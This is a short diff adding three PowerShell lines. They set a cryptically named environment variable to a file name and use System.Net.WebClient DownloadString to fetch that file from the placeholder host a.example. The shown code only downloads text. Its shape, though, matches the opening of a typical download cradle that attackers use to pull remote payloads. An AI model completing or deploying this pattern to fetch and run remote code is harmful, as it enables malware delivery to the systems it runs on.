@@ -1,0 +1,3 @@
+$env:zq='x.txt'
+$wc = New-Object System.Net.WebClient
+$wc.DownloadString("http://a.example/$($env:zq)")
